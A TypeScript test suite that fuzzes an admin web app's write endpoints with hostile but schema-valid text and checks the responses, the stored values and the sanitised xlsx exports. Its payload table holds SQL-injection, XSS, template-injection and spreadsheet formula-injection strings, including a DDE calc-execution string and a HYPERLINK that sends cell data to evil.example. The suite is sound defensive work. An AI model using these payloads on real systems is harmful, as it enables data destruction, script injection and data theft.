/**
 * Schema-valid writes with hostile text (decision 0115, the gap decision 0102 left). Every write
 * endpoint that takes a body gets, field by field, each free-text field of its body schema (a
 * string with no pattern beyond "not blank", no format, no fixed values) filled with text that is
 * valid for the schema and hostile for everything behind it: right-to-left overrides, zero-width
 * joiners, stacks of combining marks, emoji with ZWJ sequences and skin tones, astral-plane
 * characters, SQL and HTML injection, template and format strings, spreadsheet formulas,
 * backslashes and quotes, mixed CJK, and text as long as the schema's maxLength. Fields and
 * values come from the declarations; what is written by hand per route is only a working body
 * (records that exist) and the declared read endpoint that shows the record again.
 *
 * Every answer must be the envelope, 2xx or a 4xx with a clear message (never a 5xx, never a
 * stack). When a write is accepted, the record read back through the read endpoint holds the
 * text exactly as sent; the server trims some fields (users' nickname, WeChat and phone, a
 * recharge's remark), which the summary names; the announcement's rich-text body is sanitised
 * and must carry no script, event handler or javascript: link. Last, the orders written are
 * exported: no cell of the xlsx may start with = + - @ tab or CR (OWASP's formula injection),
 * each text cell is the stored text, prefixed with a single quote when it would start a formula.
 *
 * Short form by default; RELIABILITY=full sends more. The seed is fixed; FUZZ_SEED replays another.
 */
import { endpointList } from '@clearplay/contract';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import type { TSchema } from 'typebox';
import { Value } from 'typebox/value';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { schemasOf } from '../http/endpoint.ts';
import { EXPORT_COLUMNS } from '../modules/orders/files/orders.sheet.ts';
import { call, createTestContext, createUser, loginAs, type LoggedIn, type TestContext, type TestUser } from '../test/context.ts';
import { orderBody } from '../test/orders.ts';

// Suite settings (not app configuration).
const suiteEnv = process.env;
const FULL = suiteEnv.RELIABILITY === 'full';
const SEED = suiteEnv.FUZZ_SEED === undefined ? 115_2026 : Number(suiteEnv.FUZZ_SEED);
/** Values per free-text field, the three fixed examples included. */
const RUNS_PER_FIELD = FULL ? 40 : 5;

/** A stack frame, a source path or a runtime's internal error code in an answer. */
const LEAK =
  /\n\s+at |\bat [\w$.<>]+ \(|node_modules|\/src\/|\.ts:\d+|\.js:\d+|\/work\/|\/home\/|\/tmp\/|FST_[A-Z_]+|ERR_[A-Z_]+|SQLITE_|ER_[A-Z_]+|syntax error at|duplicate key/;
const EMPTY_MESSAGE = /^\s*(undefined|null|error|\[object Object\]|internal server error)?\s*$/i;
/** What starts a formula in a spreadsheet (OWASP, CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** What a sanitised rich text may not hold. */
const ACTIVE_HTML = /<\s*script|<\s*iframe|<\s*object|<\s*embed|\son[a-z]+\s*=|javascript:|vbscript:|data:text\/html/i;

// ── hostile text ─────────────────────────────────────────────────────────────────────────

/** Pieces of hostile text; a value is a few of them joined, sometimes repeated up to maxLength. */
export const HOSTILE_PIECES = {
  bidi: ['\u202Eevil\u202Cgnp.exe', '\u202D\u202E', '\u2066x\u2069\u2067y\u2069', '\u200Fשלום', 'مرحبا بالعالم'],
  zeroWidth: ['a\u200Db', '\u200B', 'x\u200C\u200Dy', '\u2060', '\uFEFFbom'],
  combining: [
    'e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308',
    'Z\u0335\u0321\u0322a\u0337l\u0335g\u0336o\u0338',
    `a${'\u0300'.repeat(24)}`,
  ],
  emoji: ['😀', '👍🏽', '👨‍👩‍👧‍👦', '🧑🏿‍💻', '🏳️‍🌈', '🇨🇳', '❤️', '👩🏼‍❤️‍💋‍👨🏾'],
  astral: ['𝕳𝖊𝖑𝖑𝖔', '𠀀𠀁𪜀', '🀄🂡', '𓀀𓂀', '𐍈'],
  sql: [
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    '" OR ""="',
    '1); DELETE FROM orders; --',
    "%' AND 1=1 --",
    "\\'; SELECT pg_sleep(1); --",
  ],
  html: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg onload=alert(1)>',
    "<a href='javascript:alert(1)'>x</a>",
    '&lt;b&gt;&amp;',
    '<!-- x -->',
  ],
  template: ['%s %n %x %d', '{{7*7}}', '${7*7}', '#{7*7}', '{0}{1}', '%(name)s', '<%= 7*7 %>'],
  formula: ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '=1+1', "+cmd|' /C calc'!A0", '-1+1', '@SUM(A1:A9)', '=cmd|"/c calc"!A1'],
  quotes: ['\\', '\\\\', '"', "'", '`', "\\'", '\\"', '\\n\\t\\u0000'],
  cjk: ['中文测试', '繁體中文', '日本語テキスト', '한국어 텍스트', 'ｆｕｌｌｗｉｄｔｈ', '混合Mixed中文'],
  whitespace: [' ', '\t', '\n', '\r\n', '\u3000'],
} as const;

const piece = fc.constantFrom(...Object.values(HOSTILE_PIECES).flat());
/** A formula at the start (the case a spreadsheet acts on), then anything. */
const formulaFirst = fc
  .tuple(fc.constantFrom(...HOSTILE_PIECES.formula), fc.array(piece, { maxLength: 3 }))
  .map(([first, rest]) => [first, ...rest].join(''));

const ALL_PIECES = Object.values(HOSTILE_PIECES).flat().join('');
/** `text` repeated or cut to exactly `maxLength` code points. */
const fillTo = (text: string, maxLength: number): string => {
  const unit = Array.from(text);
  return Array.from({ length: Math.max(maxLength, 1) }, (_, i) => unit[i % unit.length]).join('');
};

/** Hostile text that fits `maxLength` code points (as the schema counts), or fills it. */
function hostileText(maxLength: number): fc.Arbitrary<string> {
  const fit = (text: string) => Array.from(text).slice(0, maxLength).join('');
  const mixed = fc.array(piece, { minLength: 1, maxLength: 5 }).map((parts) => parts.join(''));
  const long = fc.array(piece, { minLength: 2, maxLength: 6 }).map((parts) => {
    const unit = Array.from(parts.join(''));
    return Array.from({ length: maxLength }, (_, i) => unit[i % unit.length]).join('');
  });
  return fc.oneof({ arbitrary: mixed, weight: 4 }, { arbitrary: formulaFirst, weight: 2 }, { arbitrary: long, weight: 1 }).map(fit);
}

// ── free-text fields, from the schemas ───────────────────────────────────────────────────

interface JsonSchema {
  type?: string;
  pattern?: string;
  format?: string;
  const?: unknown;
  enum?: unknown[];
  maxLength?: number;
  properties?: Record<string, JsonSchema>;
  anyOf?: JsonSchema[];
}

/** Fields that take a secret (a password, a one-time code), not text anyone reads again: left out. */
const SECRET = /password|^code$|recoveryCode|ticket/i;

/**
 * A body field whose schema takes free text: a string, no pattern but "not blank", no format, no
 * fixed values, not a secret.
 */
function freeTextFields(body: JsonSchema): { name: string; maxLength: number }[] {
  if (body.type !== 'object' || body.properties === undefined) return [];
  return Object.entries(body.properties)
    .filter(
      ([name, s]) =>
        !SECRET.test(name) &&
        s.type === 'string' &&
        (s.pattern === undefined || s.pattern === '\\S') &&
        s.format === undefined &&
        s.const === undefined &&
        s.enum === undefined,
    )
    .map(([name, s]) => ({ name, maxLength: s.maxLength ?? 1000 }));
}

// ── per route: a working body and the read that shows the record again ───────────────────

interface World {
  superAdmin: LoggedIn;
  shop: TestUser;
  inspector: TestUser;
  victim: TestUser;
  unique(): string;
}

interface Writer {
  /** A body the route accepts (its records exist), made afresh for each request. */
  body(w: World): Promise<Record<string, unknown>> | Record<string, unknown>;
  /** The read endpoint's URL that shows the written record, and its id when the answer names one. */
  read(w: World, sent: Record<string, unknown>, data: unknown): { url: string; id?: number };
  /** Fields the product stores as something else than the text, and the check instead. */
  rich?: Record<string, 'sanitised html'>;
}

const idOf = (data: unknown, sent: Record<string, unknown>): number | undefined => {
  const fromAnswer = (data as { id?: unknown } | null)?.id;
  if (typeof fromAnswer === 'number') return fromAnswer;
  return typeof sent.id === 'number' ? sent.id : undefined;
};

async function freshId(w: World, url: string, payload: object): Promise<number> {
  const made = await call<{ id: number }>(ctx, 'POST', url, { as: w.superAdmin, payload });
  if (made.status !== 200) throw new Error(`${url}: ${made.msg}`);
  return made.data.id;
}

const userFields = {
  wechat: 'wx_text',
  phone: '13800000000',
  defaultPrice: 0,
  defaultPriceCheat: 0,
  defaultPriceSuspect: 0,
  defaultPriceNotPass: 0,
};

/** The username of each user an update is sent for (the list is read by username). */
const usernames = new Map<number, string>();

const WRITERS: Record<string, Writer> = {
  'dicts.createType': {
    body: (w) => ({ code: `ht_${w.unique()}`, name: 'Type' }),
    read: (_w, sent, data) => ({ url: `/api/admin/dict/type/list?code=${String(sent.code)}`, id: idOf(data, sent) }),
  },
  'dicts.updateType': {
    body: async (w) => {
      const code = `ht_${w.unique()}`;
      return { id: await freshId(w, '/api/admin/dict/type', { code, name: 'Type' }), code, name: 'Type' };
    },
    read: (_w, sent) => ({ url: `/api/admin/dict/type/list?code=${String(sent.code)}`, id: sent.id as number }),
  },
  'dicts.createData': {
    // A type of its own per request: its list is one entry long.
    body: async (w) => {
      const typeCode = `ht_${w.unique()}`;
      await freshId(w, '/api/admin/dict/type', { code: typeCode, name: 'Type' });
      return { typeCode, label: 'Label', value: `v_${w.unique()}` };
    },
    read: (_w, sent, data) => ({ url: `/api/admin/dict/data/${String(sent.typeCode)}`, id: idOf(data, sent) }),
  },
  'dicts.updateData': {
    body: async (w) => {
      const typeCode = `ht_${w.unique()}`;
      await freshId(w, '/api/admin/dict/type', { code: typeCode, name: 'Type' });
      const entry = { typeCode, label: 'Label', value: `v_${w.unique()}` };
      return { id: await freshId(w, '/api/admin/dict/data', entry), ...entry };
    },
    read: (_w, sent) => ({ url: `/api/admin/dict/data/${String(sent.typeCode)}`, id: sent.id as number }),
  },
  'roles.create': {
    body: (w) => ({ name: `ht_${w.unique()}`, description: 'Role', permissions: [], isAdmin: false }),
    read: (_w, sent, data) => ({ url: `/api/admin/role/list?name=${String(sent.name)}`, id: idOf(data, sent) }),
  },
  'roles.update': {
    body: async (w) => {
      const name = `ht_${w.unique()}`;
      const role = { name, description: 'Role', permissions: [], isAdmin: false };
      return { id: await freshId(w, '/api/admin/role/create', role), ...role };
    },
    read: (_w, sent) => ({ url: `/api/admin/role/list?name=${String(sent.name)}`, id: sent.id as number }),
  },
  'announcements.add': {
    body: () => ({ title: 'Notice', type: 'notice', content: '<p>Text</p>' }),
    read: (_w, sent, data) => ({ url: `/api/admin/announcement/detail?id=${idOf(data, sent)}`, id: idOf(data, sent) }),
    rich: { content: 'sanitised html' },
  },
  'ledger.recharge': {
    // The newest entry of a shop of its own per request.
    body: async () => ({ userId: (await createUser(ctx, 'shop')).id, amount: 1, remark: 'Recharge' }),
    read: (_w, sent) => ({ url: `/api/admin/user/ledger?userId=${String(sent.userId)}` }),
  },
  'orders.create': {
    body: (w) => orderBody({ userId: w.shop.id, inspectorId: w.inspector.id, amount: 100 }, { objWechat: `wx_${w.unique()}` }),
    read: (_w, sent, data) => ({ url: `/api/admin/order/detail?id=${idOf(data, sent)}`, id: idOf(data, sent) }),
  },
  'orders.update': {
    body: async (w) => {
      const body = orderBody({ userId: w.shop.id, inspectorId: w.inspector.id, amount: 100 }, { objWechat: `wx_${w.unique()}` });
      const made = await call<{ id: number }>(ctx, 'POST', '/api/admin/order/create', { as: w.superAdmin, payload: body });
      if (made.status !== 200) throw new Error(`order: ${made.msg}`);
      return { id: made.data.id, ...body };
    },
    read: (_w, sent) => ({ url: `/api/admin/order/detail?id=${String(sent.id)}`, id: sent.id as number }),
  },
  'users.create': {
    body: async (w) => ({
      username: `ht_${w.unique()}`,
      password: 'Passw0rd!x',
      nickname: 'Nick',
      roleId: w.shop.roleId,
      ...userFields,
    }),
    read: (_w, sent, data) => ({ url: `/api/admin/user/list?username=${String(sent.username)}`, id: idOf(data, sent) }),
  },
  'users.update': {
    body: async (w) => {
      const user = await createUser(ctx, 'shop', { username: `ht_${w.unique()}` });
      usernames.set(user.id, user.username);
      return { id: user.id, nickname: 'Nick', roleId: user.roleId, ...userFields };
    },
    read: (_w, sent) => ({ url: `/api/admin/user/list?username=${usernames.get(sent.id as number)}`, id: sent.id as number }),
  },
  'users.setSubscription': {
    body: async () => ({ userId: (await createUser(ctx, 'shop')).id, type: 'monthly', remark: 'Subscription' }),
    read: (_w, sent) => ({ url: `/api/admin/user/subscriptions?userId=${String(sent.userId)}` }),
  },
  'account.updateProfile': {
    body: () => ({ nickname: 'Own nick' }),
    read: () => ({ url: '/api/admin/account/profile' }),
  },
  'account.avatar': {
    body: () => ({ avatar: '' }),
    read: () => ({ url: '/api/admin/account/profile' }),
  },
};

// ── the run ──────────────────────────────────────────────────────────────────────────────

let ctx: TestContext;
let w: World;
/** Orders written with hostile text: their id, and each field as the read gave it back. */
const writtenOrders = new Map<number, Record<string, string>>();
const tally = { notValid: 0, sent: 0, accepted: 0, refused: 0, readBack: 0, trimmed: new Set<string>(), notShown: new Set<string>() };
const byStatus = new Map<number, number>();
/** Fields that took hostile text at least once (the others refuse it: a reference, a key, a MAC…). */
const acceptedFields = new Set<string>();
const started = Date.now();

beforeAll(async () => {
  ctx = await createTestContext({ ownDataDir: true });
  let counter = 0;
  const superAdmin = await loginAs(ctx, 'super_admin');
  const shop = await createUser(ctx, 'shop');
  const inspector = await createUser(ctx, 'inspector');
  const victim = await createUser(ctx, 'shop');
  w = { superAdmin, shop, inspector, victim, unique: () => `${Date.now().toString(36)}${(++counter).toString(36)}` };
}, 120_000);
afterAll(async () => {
  console.log(
    `hostile text: ${tally.sent} writes (${FULL ? 'full' : 'short'} form, seed ${SEED}), ${tally.notValid} values the schema refused left unsent, accepted ${tally.accepted}, refused ${tally.refused} ` +
      `(${[...byStatus].map(([s, n]) => `${s}: ${n}`).join(', ')}); read back ${tally.readBack}; trimmed by the server: ` +
      `${[...tally.trimmed].join(', ') || 'none'}; not shown by the read: ${[...tally.notShown].join(', ') || 'none'}; ` +
      `fields that refused every value: ${declared
        .flatMap((r) => r.fields.map((f) => `${r.name}.${f.name}`))
        .filter((f) => !acceptedFields.has(f))
        .join(', ')}; ${writtenOrders.size} orders exported; ${((Date.now() - started) / 1000).toFixed(1)} s`,
  );
  await ctx?.destroy();
});

/** The routes and their free-text fields, from the declarations. */
const declared = endpointList().flatMap(({ name, endpoint }) => {
  const body = schemasOf(endpoint).body;
  if (endpoint.method === 'GET' || body === undefined || body === 'multipart' || endpoint.access.auth !== 'user') return [];
  const fields = freeTextFields(body as unknown as JsonSchema);
  return fields.length === 0 ? [] : [{ name, endpoint, body: body as TSchema, fields }];
});

/** Every object of a JSON value that has `key`. */
function holders(value: unknown, key: string, found: Record<string, unknown>[] = []): Record<string, unknown>[] {
  if (Array.isArray(value)) for (const v of value) holders(v, key, found);
  else if (value !== null && typeof value === 'object') {
    const o = value as Record<string, unknown>;
    if (key in o) found.push(o);
    for (const v of Object.values(o)) holders(v, key, found);
  }
  return found;
}

const short = (text: string) => JSON.stringify(text.length > 160 ? `${text.slice(0, 160)}…` : text);

/** Sends one write with `text` in `field`; answers what is wrong, or undefined. */
async function writeAndReadBack(route: (typeof declared)[number], field: string, text: string): Promise<string | undefined> {
  const writer = WRITERS[route.name]!;
  const base = await writer.body(w);
  const sent = { ...base, [field]: text };
  if (!Value.Check(route.body, sent)) {
    tally.notValid += 1;
    return undefined;
  }
  const res = await ctx.app.inject({
    method: route.endpoint.method as 'POST',
    url: `/api${route.endpoint.path}`,
    headers: { ...w.superAdmin.headers, 'accept-language': 'en-US' },
    payload: sent,
  });
  tally.sent += 1;
  const where = `${route.name} ${field}=${short(text)}`;
  if (res.statusCode >= 500) return `${where}: HTTP ${res.statusCode} ${res.body.slice(0, 300)}`;
  let envelope: { status?: unknown; msg?: unknown; data?: unknown };
  try {
    envelope = JSON.parse(res.body) as typeof envelope;
  } catch {
    return `${where}: not the envelope: ${res.body.slice(0, 300)}`;
  }
  if (typeof envelope.status !== 'number' || typeof envelope.msg !== 'string')
    return `${where}: not the envelope: ${res.body.slice(0, 300)}`;
  byStatus.set(envelope.status, (byStatus.get(envelope.status) ?? 0) + 1);
  if (envelope.status >= 500) return `${where}: status ${envelope.status} ${envelope.msg}`;
  if (envelope.status >= 400) {
    tally.refused += 1;
    if (EMPTY_MESSAGE.test(envelope.msg)) return `${where}: no clear message: ${res.body.slice(0, 300)}`;
    // A refusal that says the text is too long must be true, counted as the schema counts (code points).
    const limit = /^At most (\d+) characters$/.exec(envelope.msg);
    if (limit !== null && Array.from(text.trim()).length <= Number(limit[1]))
      return `${where}: refused as longer than ${limit[1]} characters, but it has ${Array.from(text.trim()).length}`;
    const leak = LEAK.exec(res.body);
    return leak === null ? undefined : `${where}: leaks "${leak[0]}": ${res.body.slice(0, 300)}`;
  }
  if (envelope.status !== 200) return `${where}: status ${envelope.status}`;
  tally.accepted += 1;
  acceptedFields.add(`${route.name}.${field}`);

  // Read the record back through the declared read endpoint.
  const { url, id } = writer.read(w, sent, envelope.data);
  const read = await ctx.app.inject({ method: 'GET', url, headers: w.superAdmin.headers });
  const answer = read.json<{ status: number; msg: string; data: unknown }>();
  if (answer.status !== 200) return `${where}: the read ${url} answered ${answer.status} ${answer.msg}`;
  const candidates = holders(answer.data, field).filter((o) => id === undefined || o.id === id);
  if (candidates.length === 0) {
    if (holders(answer.data, 'id').length > 0 && id !== undefined && !holders(answer.data, 'id').some((o) => o.id === id))
      return `${where}: the record ${id} is not in ${url}`;
    tally.notShown.add(`${route.name}.${field}`);
    return undefined;
  }
  // A list newest first (ledger, subscriptions): the newest entry is the one written.
  const stored = candidates[0]![field];
  if (typeof stored !== 'string') return `${where}: read back ${JSON.stringify(stored)}`;
  tally.readBack += 1;
  if (writer.rich?.[field] === 'sanitised html') {
    const active = ACTIVE_HTML.exec(stored);
    return active === null ? undefined : `${where}: the sanitised text keeps "${active[0]}": ${short(stored)}`;
  }
  if (route.name === 'orders.create' || route.name === 'orders.update') {
    const orderId = id!;
    writtenOrders.set(orderId, { ...writtenOrders.get(orderId), [field]: stored });
  }
  if (stored === text) return undefined;
  if (stored === text.trim()) {
    tally.trimmed.add(`${route.name}.${field}`);
    return undefined;
  }
  return `${where}: read back as ${short(stored)}`;
}

describe('schema-valid writes with hostile text (decision 0115)', () => {
  it('finds the write routes with free text, and each has a working body and a read', () => {
    expect(declared.length).toBeGreaterThanOrEqual(12);
    expect(declared.map((r) => r.name).filter((name) => WRITERS[name] === undefined)).toEqual([]);
    expect(Object.keys(WRITERS).filter((name) => !declared.some((r) => r.name === name))).toEqual([]);
  });

  it('knows the text pieces it promises', () => {
    const all = Object.values(HOSTILE_PIECES).flat();
    for (const wanted of [
      "'; DROP TABLE users; --",
      "' OR '1'='1",
      '<script>alert(1)</script>',
      '${7*7}',
      '{{7*7}}',
      '%s %n %x %d',
      '-1+1',
    ])
      expect(all).toContain(wanted);
    expect(all.some((p) => /\p{Emoji_Modifier}/u.test(p) && p.includes('\u200D'))).toBe(true);
    expect(all.some((p) => [...p].some((c) => c.codePointAt(0)! > 0xffff))).toBe(true);
  });

  describe.each(declared)('$name', (route) => {
    it.each(route.fields)(
      'stores $name as sent, or refuses it clearly',
      async ({ name: field, maxLength }) => {
        const problems: string[] = [];
        await fc.assert(
          fc.asyncProperty(hostileText(maxLength), async (text) => {
            const problem = await writeAndReadBack(route, field, text);
            if (problem !== undefined) problems.push(problem);
            return problem === undefined;
          }),
          {
            seed: SEED,
            numRuns: RUNS_PER_FIELD,
            endOnFailure: !FULL,
            // Every field also gets: every piece at once, up to its maxLength; a formula first;
            // text with spaces around (what a field that trims shows).
            examples: [
              [fillTo(ALL_PIECES, maxLength)],
              [fillTo(`=HYPERLINK("http://x.example","中文")${ALL_PIECES}`, maxLength)],
              [`  ${fillTo('<b>x</b> 😀', maxLength - 4)}  `],
            ],
          },
        );
        expect(problems).toEqual([]);
      },
      120_000,
    );
  });

  it('exports the orders with every formula neutralised and the text as stored', async () => {
    expect(writtenOrders.size).toBeGreaterThan(0);
    const res = await ctx.app.inject({ method: 'GET', url: '/api/admin/order/export', headers: w.superAdmin.headers });
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const codes = new Map<string, number>();
    for (const [id] of writtenOrders) {
      const detail = await call<{ code: string }>(ctx, 'GET', `/api/admin/order/detail?id=${id}`, { as: w.superAdmin });
      codes.set(detail.data.code, id);
    }
    const wrong: string[] = [];
    let checked = 0;
    sheet.eachRow((row, rowNumber) => {
      if (rowNumber === 1) return;
      const cells = EXPORT_COLUMNS.map((_, i) => row.getCell(i + 1));
      for (const [i, cell] of cells.entries()) {
        if (cell.formula !== undefined && cell.formula !== null && cell.formula !== '')
          wrong.push(`row ${rowNumber} ${EXPORT_COLUMNS[i]}: a formula cell`);
        if (typeof cell.value === 'string' && FORMULA_START.test(cell.value))
          wrong.push(`row ${rowNumber} ${EXPORT_COLUMNS[i]}: starts a formula: ${short(cell.value)}`);
      }
      const id = codes.get(String(cells[EXPORT_COLUMNS.indexOf('code')]!.value));
      if (id === undefined) return;
      for (const [field, stored] of Object.entries(writtenOrders.get(id)!)) {
        const column = EXPORT_COLUMNS.indexOf(field as (typeof EXPORT_COLUMNS)[number]);
        if (column < 0) continue;
        const value = cells[column]!.value;
        const expected = FORMULA_START.test(stored) ? `'${stored}` : stored;
        checked += 1;
        if ((value ?? '') !== expected) {
          const got = String(value);
          let at = 0;
          while (at < got.length && got[at] === expected[at]) at += 1;
          wrong.push(
            `order ${id} ${field}: the cell differs from the stored text at ${at} of ${expected.length}: ` +
              `${short(got.slice(at, at + 12))} for ${short(expected.slice(at, at + 12))}`,
          );
        }
      }
    });
    expect(wrong).toEqual([]);
    expect(checked).toBeGreaterThan(0);
  }, 120_000);
});
